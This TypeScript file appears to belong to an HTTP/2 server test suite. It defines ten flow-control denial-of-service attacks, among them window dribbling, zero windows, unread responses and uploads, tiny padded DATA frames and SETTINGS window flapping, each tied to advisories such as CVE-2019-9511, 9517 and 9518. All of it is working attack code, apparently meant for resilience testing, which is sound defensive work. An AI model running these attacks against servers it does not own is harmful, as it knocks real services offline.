import { data, headers, type Octets, paddedData, settings, windowUpdate } from '../wire/frames'
import { Windows } from '../wire/windows'
import type { Attack } from './attack'
import { flood, floodOfStreams, hold, streams } from './floods'
import type { Hostile } from './hostile'

/*
 * Bodies that wait: on the server, because the client does not let them go or does not read, or because
 * the application does not take them.
 */

const INITIAL_WINDOW_SIZE = 4

/** One of a thousand opens fewer, and all of them are still many. */
const count = (host: Hostile, all: number) => (host.below ? Math.ceil(all / 10) : all)

function getLarge(host: Hostile, howMany: number): Octets[] {
  const block = host.request('/large')
  return streams(howMany, (streamId) => headers(streamId, block))
}

/** Uploads on as many streams as servers allow, each of as much as its window takes. */
async function upload(host: Hostile, path: string): Promise<void> {
  const connection = await host.secure()
  const windows = new Windows()
  connection.socket.on('data', (octets: Buffer) => windows.receive(octets))
  // What comes back is not let go: only its frames without flow control are read.
  await connection.begin({ window: 'none' })
  const block = host.request(path, 'POST')
  const streamIds = Array.from({ length: count(host, 127) }, (_, index) => 1 + 2 * index)
  await connection.send(...streamIds.map((streamId) => headers(streamId, block, { end: false })))
  const frame = new Uint8Array(16_384)
  while (connection.isOpen) {
    const sending = streamIds.filter((streamId) => windows.of(streamId) > 0)
    for (const streamId of sending) {
      const octets = Math.min(frame.length, windows.of(streamId))
      if (octets <= 0) break
      windows.use(streamId, octets)
      if (!(await connection.send(data(streamId, frame.subarray(0, octets))))) return
    }
    if (sending.length === 0) await Promise.race([windows.change(), connection.over()])
  }
}

/** Uploads take what they find: more than requests do. */
const UPLOADS = { octetsPerSecond: 268_435_456, control: 'uploads' } as const

export const FLOW_CONTROL: readonly Attack[] = [
  {
    name: 'data-dribble',
    advisory: 'CVE-2019-9511',
    sends: 'Requests for 10 MiB on 100 streams, let go octet by octet.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ window: 'none' })
      const howMany = count(host, 100)
      await connection.send(windowUpdate(0, 2 ** 30), ...getLarge(host, howMany))
      const octets = Buffer.concat(streams(howMany, (streamId) => windowUpdate(streamId, 1)))
      await flood(host, connection, octets, { burst: 1, perSecond: 10 })
    },
  },
  {
    name: 'window-dribble-slow',
    advisory: 'CVE-2019-9511',
    sends: 'Requests for 10 MiB on 100 streams, each let go an octet a second.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ window: 'none' })
      const howMany = count(host, 100)
      await connection.send(windowUpdate(0, 2 ** 30), ...getLarge(host, howMany))
      const octets = Buffer.concat(streams(howMany, (streamId) => windowUpdate(streamId, 1)))
      while (await host.sleep(1000)) if (!(await connection.send(octets))) return
    },
  },
  {
    name: 'zero-window',
    advisory: 'CVE-2019-9517',
    sends: 'Requests for 10 MiB on 127 streams with windows of zero, then silence.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ window: 'none' })
      await connection.send(...getLarge(host, count(host, 127)))
      await hold(connection)
    },
  },
  {
    name: 'responses-unread',
    advisory: 'CVE-2019-9517',
    sends:
      'Requests for 10 MiB on 100 streams with the largest windows, from a client that does not read.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ reads: false })
      await connection.send(...getLarge(host, count(host, 100)))
      await hold(connection)
    },
  },
  {
    name: 'one-response-unread',
    advisory: 'CVE-2019-9517',
    sends: 'A request for 10 MiB with the largest windows, from a client that does not read.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ reads: false })
      await connection.send(...getLarge(host, 1))
      await hold(connection)
    },
  },
  {
    name: 'small-responses-unread',
    advisory: 'CVE-2019-9517',
    sends: 'Requests without end, from a client that does not read.',
    async run(host) {
      const connection = await host.open({ reads: false })
      const block = host.request()
      await floodOfStreams(host, connection, (streamId) => headers(streamId, block), {
        burst: 1000,
        perSecond: 100,
      })
    },
  },
  {
    name: 'uploads-unread',
    advisory: 'golang/go#28204',
    sends: 'Uploads on 127 streams to handlers that do not read them, as much as the windows take.',
    needs: ['application', 'waiting-handlers'],
    rate: UPLOADS,
    run: (host) => upload(host, '/never-reads'),
  },
  {
    name: 'uploads-unread-small-frames',
    advisory: 'CVE-2019-9518',
    sends: 'Uploads to handlers that do not read them, in DATA of one octet behind 255 of padding.',
    needs: ['application', 'waiting-handlers'],
    async run(host) {
      const connection = await host.open()
      const block = host.request('/never-reads', 'POST')
      const howMany = count(host, 127)
      await connection.send(
        ...streams(howMany, (streamId) => headers(streamId, block, { end: false })),
      )
      const round = Buffer.concat(streams(howMany, paddedData))
      for (let sent = 0; sent < (host.below ? 30 : 200); sent++) {
        if (!(await connection.send(round))) return
      }
      await hold(connection)
    },
  },
  {
    name: 'upload-echoes',
    advisory: 'CVE-2019-9517',
    sends: 'Uploads on 127 streams that are echoed into windows of zero.',
    needs: ['application', 'waiting-handlers'],
    rate: UPLOADS,
    run: (host) => upload(host, '/echo'),
  },
  {
    name: 'window-flaps',
    advisory: 'RFC 9113 section 6.9.2',
    sends: 'SETTINGS that open and shut the windows of 100 streams for 10 MiB each.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ window: 'none' })
      await connection.send(windowUpdate(0, 2 ** 30), ...getLarge(host, count(host, 100)))
      const flap = Buffer.concat([
        settings([[INITIAL_WINDOW_SIZE, 1]]),
        settings([[INITIAL_WINDOW_SIZE, 0]]),
      ])
      await flood(host, connection, flap, { burst: 100, perSecond: 30 })
    },
  },
]
